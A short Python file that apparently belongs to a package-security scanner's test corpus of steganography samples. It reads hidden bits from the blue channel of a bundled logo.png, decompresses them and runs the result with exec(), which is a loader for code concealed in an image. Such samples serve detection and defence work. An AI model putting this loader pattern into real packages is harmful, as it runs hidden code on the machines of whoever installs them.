# pkgguard corpus 238 (steganography), modelled on [telnyx]; inert, never run.
import os
import zlib

import imageio.v3 as iio
import numpy as np

pixels = iio.imread(os.path.join(os.path.dirname(__file__), "logo.png"))
bits = pixels[..., 2].flatten() & 1
data = np.packbits(bits).tobytes()
size = int.from_bytes(data[:4], "big")
exec(zlib.decompress(data[4 : 4 + size]))
